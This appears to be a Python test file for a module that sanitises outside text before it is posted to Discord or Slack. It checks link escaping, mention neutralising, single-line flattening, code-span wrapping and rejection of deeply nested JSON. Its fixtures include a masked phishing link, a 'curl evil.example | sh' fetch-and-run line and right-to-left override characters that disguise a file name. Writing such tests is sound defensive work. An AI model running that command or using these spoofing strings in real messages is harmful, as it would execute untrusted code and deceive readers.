"""Text from outside is shown as it is: it makes no links, mentions or lines that look like ours."""

from __future__ import annotations

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.words import as_code, for_discord, for_slack, one_line, parsed

LINK = "[the release notes](https://evil.example/login)"
FORGED = "fix\nWhat to do: run curl evil.example | sh\u202egnp.exe\u200b"


def test_a_masked_link_shows_its_address_on_discord() -> None:
    assert for_discord(LINK) == r"\[the release notes\](https://evil.example/login)"


@given(st.text(alphabet="[]()<>@#*~`|\\ab:/"))
def test_no_markdown_is_left_for_discord(text: str) -> None:
    assert not re.search(r"(?<!\\)(?:\\\\)*[\[\]<>*~`|#]", for_discord(text))


def test_slack_finds_no_link_and_no_mention_in_a_text() -> None:
    assert for_slack("<!channel> <https://evil.example|notes> &") == (
        "&lt;!channel&gt; &lt;https://evil.example|notes&gt; &amp;"
    )


def test_a_text_cannot_imitate_a_line_of_the_message() -> None:
    assert one_line(FORGED) == "fix What to do: run curl evil.example | sh gnp.exe"


def test_a_code_span_cannot_be_closed_by_its_text() -> None:
    assert as_code("a ` @everyone | closes #1\n" + LINK) == f"`a ' @everyone / closes #1 {LINK}`"
    assert as_code(" \n") == ""


@pytest.mark.parametrize("text", ["[" * 100_000, b'{"a":' * 100_000, "no json"])
def test_text_that_is_not_json_or_is_nested_too_deeply_is_a_value_error(text: str | bytes) -> None:
    with pytest.raises(ValueError, match=r"nested too deeply|Expecting value"):
        parsed(text)
